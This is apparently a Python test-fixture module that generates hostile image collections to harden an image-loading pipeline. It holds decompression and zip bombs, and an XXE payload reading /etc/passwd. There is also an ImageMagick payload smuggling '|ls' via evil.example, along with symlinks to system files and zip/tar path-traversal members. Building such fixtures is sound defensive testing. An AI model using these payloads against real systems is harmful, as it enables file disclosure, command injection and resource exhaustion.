"""How may a collection of pictures be hostile? Each attack adds to a folder of them and says what to read then."""

import io
import os
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from hardy.hostile_outputs import MARK
from hardy.hostile_texts import ESCAPES, EVERYTHING, FILE_NAME, LEVELS

MB = 2**20
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="planted()"><script>planted()</script></svg>'

Attack = Callable[[Path, random.Random], Path]


def _any(folder: Path, chance: random.Random) -> tuple[Path, bytes]:
    """Return a folder of a class, and a picture that lies there."""
    file = chance.choice(sorted(item for item in folder.rglob("*") if item.suffix in {".png", ".jpg"}))
    return file.parent, file.read_bytes()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(width: int, height: int, data: bytes, *further: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = [_chunk(b"IHDR", head), *further, _chunk(b"IDAT", data), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def bombs(folder: Path, chance: random.Random) -> Path:
    """Add pictures that claim, or hold, far more than their bytes."""
    into, _ = _any(folder, chance)
    block = zlib.compress(bytes(64 * MB), 9)
    (into / "claims.png").write_bytes(_png(60_000, 60_000, block))
    (into / "most.png").write_bytes(_png(2**31 - 1, 2**31 - 1, b""))
    (into / "text.png").write_bytes(_png(64, 64, zlib.compress(bytes(64 * 65)), _chunk(b"zTXt", b"a\0\0" + block)))
    (into / "profile.png").write_bytes(_png(64, 64, zlib.compress(bytes(64 * 65)), _chunk(b"iCCP", b"a\0\0" + block)))
    tiff = struct.pack("<2sHIH", b"II", 42, 8, 4)
    for tag, value in ((256, 2**31), (257, 2**31), (273, 8), (279, 2**31)):
        tiff += struct.pack("<HHII", tag, 4, 1, value)
    (into / "claims.tif").write_bytes(tiff + bytes(4))
    screen = struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\x08\x01\x00\x00;"
    (into / "claims.gif").write_bytes(b"GIF89a" + screen + frame)
    (into / "claims.bmp").write_bytes(
        struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 54, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0)
    )
    jpeg = _jpeg()
    at = jpeg.index(b"\xff\xda")
    (into / "scans.jpg").write_bytes(jpeg[:at] + jpeg[at:-2] * 10_000 + jpeg[-2:])
    return folder


def _jpeg(**options: object) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").save(buffer, "JPEG", **options)
    return buffer.getvalue()


def damaged(folder: Path, chance: random.Random) -> Path:
    """Add pictures that end early, have flipped bits, or are none."""
    into, picture = _any(folder, chance)
    for number in range(12):
        content = bytearray(picture if number % 2 else _jpeg())
        for _ in range(20):
            content[chance.randrange(12, len(content))] ^= 1 << chance.randrange(8)
        (into / f"flipped{number}.png").write_bytes(
            content[: chance.randrange(20, len(content))] if number % 3 else content
        )
    for name in ("empty.png", "zeros.jpg", "text.gif"):
        (into / name).write_bytes({"e": b"", "z": bytes(5_000), "t": EVERYTHING[0].encode() * 100}[name[0]])
    return folder


def disguised(folder: Path, chance: random.Random) -> Path:
    """Add SVG, HTML, PostScript, PDF and archives under the names of pictures, and pictures under other names."""
    into, picture = _any(folder, chance)
    leak = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'
    for name, content in {
        "drawing.png": SVG,
        "page.jpg": b"<html><script>planted()</script>",
        "paper.gif": b"%PDF-1.4\n",
        "post.png": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run",
        "deep.png": b"[" * LEVELS,
        "xml.jpg": leak,
        "zip.png": b"PK\x03\x04" + bytes(100),
        "other.gif": picture[:-1] + b"<script>planted()</script>",
        "movie.png": b"\0\0\0\x18ftypmp42" + bytes(50),
        "list.png": b"#EXTM3U\nfile:///etc/passwd\n",
        "magick.jpg": b"push graphic-context\nfill 'url(https://evil.example/|ls)'\n",
    }.items():
        (into / name).write_bytes(content)
    return folder


def animated(folder: Path, chance: random.Random) -> Path:
    """Add a GIF of 20,000 frames and a PNG that says it has two thousand million."""
    from PIL import Image

    into, _ = _any(folder, chance)
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize((64, 64)).save(buffer, "GIF")
    content = buffer.getvalue()
    at = 13 + 3 * 2 ** ((content[10] & 7) + 1)
    (into / "frames.gif").write_bytes(content[:at] + content[at:-1] * 20_000 + b";")
    control = _chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    (into / "frames.png").write_bytes(_png(64, 64, zlib.compress(bytes(64 * 65)), control))
    return folder


def metadata(folder: Path, chance: random.Random) -> Path:
    """Add pictures whose EXIF, comment and profile hold scripts, formulas and escapes, or point in circles."""
    from PIL import Image

    into, _ = _any(folder, chance)
    for number, text in enumerate(EVERYTHING):
        exif = Image.Exif()
        for tag in (0x010E, 0x010F, 0x0110, 0x013B, 0x8298):
            exif[tag] = text
        comment = text.encode("utf-8", "replace")
        (into / f"told{number}.jpg").write_bytes(
            _jpeg(exif=exif, comment=comment, icc_profile=comment * 50, quality=40 + number)
        )
    circle = b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    (into / "circle.jpg").write_bytes(_jpeg(exif=circle))
    return folder


def names(folder: Path, chance: random.Random) -> Path:
    """Give pictures and a class names of control characters, turned text, HTML and formulas."""
    into, picture = _any(folder, chance)
    for number, text in enumerate(EVERYTHING):
        name = text.replace("/", "∕").replace("\0", "") + f"{number}.png"
        (into / name).write_bytes(_jpeg(quality=30 + number))
    os.fsencode(into)
    (into / "bytes\udcff\udc9b.png").write_bytes(picture)
    return folder


def classes(folder: Path, chance: random.Random) -> Path:
    """Give every class a hostile name."""
    for number, item in enumerate(sorted(item for item in folder.iterdir() if item.is_dir())):
        text = chance.choice(EVERYTHING).replace("/", "∕")
        item.rename(item.with_name(f"{text}{number}"))
    return folder


def links(folder: Path, chance: random.Random) -> Path:
    """Add links out, links in circles, devices, pipes, and a folder that is 200 levels deep."""
    into, _ = _any(folder, chance)
    (into / "passwd.png").symlink_to("/etc/passwd")
    (into / "root.png").symlink_to("/")
    (into / "self.png").symlink_to("self.png")
    (into / "around").symlink_to("..")
    (into / "zero.png").symlink_to("/dev/zero")
    os.mkfifo(into / "pipe.png")
    deep = into
    for _ in range(200):
        deep = deep / "d"
    deep.mkdir(parents=True)
    return folder


def _zipped(folder: Path, target: Path) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED)
    for item in sorted(folder.rglob("*")):
        if item.is_file():
            archive.write(item, item.relative_to(folder).as_posix())
    return archive


def zip_escapes(folder: Path, chance: random.Random) -> Path:
    """Be a zip with members that lead out, links, the same name twice, and hostile names."""
    _, picture = _any(folder, chance)
    target = folder.with_suffix(".zip")
    with _zipped(folder, target) as archive:
        for pattern in ESCAPES:
            archive.writestr(pattern.format(f"{MARK}.png"), picture)
        link = zipfile.ZipInfo(f"a/link-{MARK}.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        for number, text in enumerate(EVERYTHING):
            archive.writestr(f"{text.strip('/')}{number}.png", picture)
    return target


def zip_bomb(folder: Path, chance: random.Random) -> Path:
    """Be a zip with pictures that unpack to 300 MB each, one of which lies about it, and archives within."""
    into, _ = _any(folder, chance)
    target = folder.with_suffix(".zip")
    size = 300 * MB
    with _zipped(folder, target) as archive:
        archive.writestr(f"{into.name}/bomb.png", bytes(size))
        archive.writestr(f"{into.name}/within.zip", target.read_bytes())
        archive.writestr(f"{into.name}/bomb.bmp", struct.pack("<2sI", b"BM", size) + bytes(size))
    content = target.read_bytes()
    target.write_bytes(content.replace(struct.pack("<I", size), struct.pack("<I", 20_000)))
    return target


def tar_escapes(folder: Path, chance: random.Random) -> Path:
    """Be a tar with members that lead out, links, devices, pipes, hostile names and a member without an end."""
    _, picture = _any(folder, chance)
    target = folder.with_suffix(".tar.gz")
    with tarfile.open(target, "w:gz") as archive:
        for item in sorted(folder.rglob("*")):
            if item.is_file():
                archive.add(item, item.relative_to(folder).as_posix())
        for name in [pattern.format(f"{MARK}.png") for pattern in ESCAPES] + [f"{text}.png" for text in EVERYTHING]:
            info = tarfile.TarInfo(name)
            info.size = len(picture)
            archive.addfile(info, io.BytesIO(picture))
        for number, kind in enumerate(
            (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, tarfile.SYMTYPE)
        ):
            info = tarfile.TarInfo(f"a/{MARK}-{number}.png")
            info.type, info.linkname = kind, "/etc/passwd" if number < 4 else f"../../{MARK}"
            archive.addfile(info)
        info = tarfile.TarInfo("a/endless.png")
        info.size = 2**40
        archive.fileobj.write(info.tobuf(tarfile.GNU_FORMAT))  # type: ignore[union-attr]
    return target


def named(folder: Path, _: random.Random) -> Path:
    """Be a folder with a hostile name."""
    return folder.rename(folder.with_name(f"{FILE_NAME}pictures"))


BESIDE: dict[str, Attack] = {}
ATTACKS: dict[str, Attack] = {
    "bombs": bombs,
    "damaged": damaged,
    "disguised": disguised,
    "animated": animated,
    "metadata": metadata,
    "names": names,
    "classes": classes,
    "links": links,
    "zip-escapes": zip_escapes,
    "zip-bomb": zip_bomb,
    "tar-escapes": tar_escapes,
    "named-folder": named,
}
